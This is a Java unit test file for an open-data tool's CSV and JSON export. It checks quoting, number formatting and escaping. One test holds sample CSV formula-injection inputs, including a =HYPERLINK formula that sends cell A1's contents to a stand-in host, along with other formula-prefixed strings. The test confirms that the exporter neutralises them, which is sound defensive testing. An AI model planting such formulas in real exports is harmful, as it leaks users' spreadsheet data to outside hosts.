package org.straumflyt.tools.opendata;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.straumflyt.model.wire.Json;
import org.straumflyt.model.QualityFlag;

class TableFilesTest {
    private record Row(String name, Double kwh, Set<QualityFlag> flags) {
    }

    private static final List<Column<Row>> COLUMNS = List.of(new Column<>("name", Row::name),
            new Column<>("kwh", Row::kwh), new Column<>("quality_flags", Row::flags));

    @Test
    void writesRfc4180CsvWithPlainRoundedNumbers(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("t.csv");

        TableFiles.writeCsv(file, COLUMNS, List.of(new Row("Skole, \"nye\"", 0.1 + 0.2, Set.of()),
                new Row("Hall", 1.0e-7, Set.of(QualityFlag.RESET, QualityFlag.GAP)),
                new Row("Bad", null, Set.of())));

        assertThat(Files.readString(file)).isEqualTo("name,kwh,quality_flags\r\n"
                + "\"Skole, \"\"nye\"\"\",0.3,\r\n"
                + "Hall,0,gap;reset\r\n"
                + "Bad,,\r\n");
    }

    @Test
    void csvTextThatASpreadsheetWouldEvaluateIsMadeInertButNumbersStayNumbers(@TempDir Path dir) throws Exception {
        // Given building names from the registry that a spreadsheet would run as formulas, and negative numbers
        Path file = dir.resolve("t.csv");
        List<Row> rows = List.of(
                new Row("=HYPERLINK(\"http://x.example/?\"&A1,\"klikk\")", -3.5, Set.of()),
                new Row("+47 skole", null, Set.of()),
                new Row("-2+3", null, Set.of()),
                new Row("@SUM(A1:A9)", null, Set.of()),
                new Row("\tcmd", null, Set.of()),
                new Row("\rcmd", null, Set.of()),
                new Row("-12.5", -0.25, Set.of()),
                new Row("Skole=1", 0.0, Set.of()));

        // When they are written as CSV
        TableFiles.writeCsv(file, COLUMNS, rows);

        // Then each formula cell starts with an apostrophe (inside the RFC 4180 quotes where it needs them),
        // text that is a plain number and numeric cells are unchanged, and the JSON export is not concerned
        assertThat(Files.readString(file)).isEqualTo("name,kwh,quality_flags\r\n"
                + "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klikk\"\")\",-3.5,\r\n"
                + "'+47 skole,,\r\n"
                + "'-2+3,,\r\n"
                + "'@SUM(A1:A9),,\r\n"
                + "'\tcmd,,\r\n"
                + "\"'\rcmd\",,\r\n"
                + "-12.5,-0.25,\r\n"
                + "Skole=1,0,\r\n");
    }

    @Test
    void writesJsonObjectsWithNumbersNullsAndFlagArrays(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("t.json");

        TableFiles.writeJson(file, COLUMNS, List.of(new Row("Hall", 12345678.25, Set.of(QualityFlag.GAP)),
                new Row("Bad", null, Set.of())));

        JsonNode rows = Json.mapper().readTree(file.toFile());
        assertThat(rows).hasSize(2);
        assertThat(rows.get(0).get("kwh").isNumber()).isTrue();
        assertThat(rows.get(0).get("kwh").decimalValue()).isEqualByComparingTo("12345678.25");
        assertThat(rows.get(0).get("quality_flags").get(0).asText()).isEqualTo("gap");
        assertThat(rows.get(1).get("kwh").isNull()).isTrue();
        assertThat(Files.list(dir).map(p -> p.getFileName().toString())).containsExactly("t.json");
    }
}
